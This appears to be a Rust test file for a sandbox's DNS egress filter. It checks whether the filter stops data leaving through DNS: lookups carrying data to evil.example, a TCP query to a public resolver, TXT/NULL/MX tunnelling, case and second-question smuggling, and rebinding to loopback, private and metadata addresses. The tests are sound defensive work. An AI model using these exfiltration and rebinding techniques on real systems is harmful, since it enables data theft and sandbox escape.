//! Names as a way out.

use hickory_proto::op::{Message, Query};
use hickory_proto::rr::rdata::svcb::{EchConfigList, IpHint, SVCB, SvcParamKey, SvcParamValue};
use hickory_proto::rr::rdata::{A, HTTPS};
use hickory_proto::rr::{Name, RData, Record, RecordType};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::cases;
use crate::client::question;
use crate::world::World;

/// Whether an answer gives an address.
async fn gives(world: &World, name: &str, kind: RecordType, part: &str) -> bool {
    let answer = world.ask(name, kind).await;
    answer
        .answers
        .iter()
        .any(|record| record.data.to_string().contains(part))
}

fn https(parameters: Vec<(SvcParamKey, SvcParamValue)>) -> Vec<Record> {
    let data = RData::HTTPS(HTTPS(SVCB::new(1, Name::root(), parameters)));
    vec![Record::from_rdata(
        Name::from_ascii("passed.example.").unwrap(),
        60,
        data,
    )]
}

/// A question over TCP to port 53 of some server.
async fn by_stream(world: &World, name: &str) {
    let mut stream = world.dial("8.8.8.8:53").await;
    let question = question(name, RecordType::A);
    let length = u16::try_from(question.len()).unwrap().to_be_bytes();
    let _ = stream.write_all(&[&length[..], &question].concat()).await;
    let _ = stream.read(&mut [0; 512]).await;
}

cases! {
    "dns-denied": "asking for a name that no rule allows, with data in it", Escapes, |w, m| {
        w.lookup(&format!("{m}.evil.example.")).await;
        false
    };
    "dns-denied-aaaa": "the same for IPv6 addresses", Escapes, |w, m| {
        w.ask(&format!("{m}.evil.example."), RecordType::AAAA).await;
        false
    };
    "dns-denied-cname": "the same for an alias", Escapes, |w, m| {
        w.ask(&format!("{m}.evil.example."), RecordType::CNAME).await;
        false
    };
    "dns-denied-https": "the same for a service binding", Escapes, |w, m| {
        w.ask(&format!("{m}.evil.example."), RecordType::HTTPS).await;
        false
    };
    "dns-denied-txt": "a text record of a name that is not allowed", Escapes, |w, m| {
        w.ask(&format!("{m}.evil.example."), RecordType::TXT).await;
        false
    };
    "dns-stream": "the question over TCP to a public resolver", Escapes, |w, m| {
        by_stream(&w, &format!("{m}.evil.example.")).await;
        false
    };
    "dns-txt-below-wild": "a type of record that is good for tunnels, below an allowed wild card", Escapes, |w, m| {
        w.ask(&format!("{m}.wild.example."), RecordType::TXT).await;
        false
    };
    "dns-null-below-wild": "another such type", Escapes, |w, m| {
        w.ask(&format!("{m}.wild.example."), RecordType::NULL).await;
        false
    };
    "dns-mx-below-wild": "and another", Escapes, |w, m| {
        w.ask(&format!("{m}.wild.example."), RecordType::MX).await;
        false
    };
    "dns-apex": "the name above a wild card, which the wild card does not allow", Escapes, |w, m| {
        w.lookup("wild.example.").await;
        w.zone.was_asked("wild.example")
    };
    "dns-deny-rule": "a name that a rule refuses below an allowed wild card", Escapes, |w, m| {
        w.lookup("never.wild.example.").await;
        w.zone.was_asked("never.wild.example")
    };
    "dns-deny-rule-case": "the same name in capitals", Escapes, |w, m| {
        w.lookup("NEVER.Wild.EXAMPLE.").await;
        w.zone.was_asked("never.wild.example")
    };
    "dns-suffix": "a name that only ends like an allowed one", Escapes, |w, m| {
        w.lookup(&format!("{m}passed.example.")).await;
        false
    };
    "dns-prefix": "a name that only begins like an allowed one", Escapes, |w, m| {
        w.lookup(&format!("passed.example.{m}.net.")).await;
        false
    };
    "dns-tunnel": "data in random labels below an allowed wild card, much of it", Escapes, |w, m| {
        for n in 0..60 {
            w.lookup(&format!("mfrggzdfmztwq2lknnwg23tpobyxe4{n:03}k7.wild.example.")).await;
        }
        let asked = w.zone.asked.lock().unwrap();
        asked.iter().map(|name| name.len() - ".wild.example".len()).sum::<usize>() > 1024
    };
    "dns-tunnel-long": "data in one very long name below an allowed wild card", Escapes, |w, m| {
        let label = "abcdefghij".repeat(6);
        w.lookup(&format!("{m}.{label}.{label}.{label}.wild.example.")).await;
        false
    };
    "dns-tunnel-short": "data in many short labels", Escapes, |w, m| {
        for n in 0..400 {
            w.lookup(&format!("a{n}b{n}c{n}.wild.example.")).await;
        }
        w.zone.asked.lock().unwrap().len() > 250
    };
    "dns-case": "data in the case of an allowed name", Holds, |w, m| {
        w.lookup("pAsSeD.ExAmPlE.").await;
        w.zone.asked.lock().unwrap().iter().any(|name| name.bytes().any(|b| b.is_ascii_uppercase()))
    };
    "dns-two-questions": "a second question behind an allowed one", Holds, |w, m| {
        let mut message = Message::query();
        for name in ["passed.example.".to_owned(), format!("{m}.evil.example.")] {
            message.add_query(Query::query(Name::from_ascii(name).unwrap(), RecordType::A));
        }
        let socket = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
        socket.send_to(&message.to_vec().unwrap(), w.dns).await.unwrap();
        let _ = socket.recv(&mut [0; 512]).await;
        false
    };
    "dns-not-a-host": "a name with bytes that no host has", Holds, |w, m| {
        // One label with a zero, a dot and a byte that is no text; then the allowed name.
        let mut question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00".to_vec();
        let label = [m.as_bytes(), b"\0.\xff"].concat();
        for label in [&label[..], b"wild", b"example", b""] {
            question.push(u8::try_from(label.len()).unwrap());
            question.extend_from_slice(label);
        }
        question.extend_from_slice(&[0, 1, 0, 1]);
        let socket = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
        socket.send_to(&question, w.dns).await.unwrap();
        let _ = socket.recv(&mut [0; 512]).await;
        false
    };
    "dns-ech": "keys for encrypted greetings, from a service binding", Escapes, |w, m| {
        let ech = SvcParamValue::EchConfigList(EchConfigList(vec![0, 4, 0xfe, 0x0d, 0, 0]));
        let records = https(vec![(SvcParamKey::EchConfigList, ech)]);
        w.zone.set_records("passed.example", RecordType::HTTPS, records);
        gives(&w, "passed.example.", RecordType::HTTPS, "ech").await
    };
    "dns-hint": "an address of this machine, hinted in a service binding", Escapes, |w, m| {
        let hint = SvcParamValue::Ipv4Hint(IpHint(vec![A::new(127, 0, 0, 1)]));
        w.zone.set_records("passed.example", RecordType::HTTPS, https(vec![(SvcParamKey::Ipv4Hint, hint)]));
        gives(&w, "passed.example.", RecordType::HTTPS, "127.0.0.1").await
    };
    "dns-rebind-loopback": "an allowed name whose owner answers with this machine", Escapes, |w, m| {
        gives(&w, "rebind.example.", RecordType::A, "127.0.0.1").await
    };
    "dns-rebind-metadata": "an allowed name whose owner answers with the metadata service", Escapes, |w, m| {
        gives(&w, "metadata.example.", RecordType::A, "169.254.169.254").await
    };
    "dns-rebind-private": "an allowed name whose owner answers with a private address", Escapes, |w, m| {
        gives(&w, "private.example.", RecordType::A, "192.168.1.1").await
    };
    "dns-rebind-mapped": "this machine's address mapped into IPv6", Escapes, |w, m| {
        gives(&w, "mapped.example.", RecordType::AAAA, "127.0.0.1").await
    };
    "dns-rebind-nat64": "this machine's address inside a NAT64 prefix", Escapes, |w, m| {
        gives(&w, "nat64.example.", RecordType::AAAA, "64:ff9b").await
    };
    "dns-rebind-mixed": "a forbidden address beside a good one", Escapes, |w, m| {
        gives(&w, "mixed.example.", RecordType::A, "169.254").await
    };
    "dns-unrecorded": "a question whose record cannot be kept", Holds, |w, m| {
        w.notes.failing.store(true, std::sync::atomic::Ordering::SeqCst);
        w.lookup(&format!("{m}.wild.example.")).await;
        false
    };
}
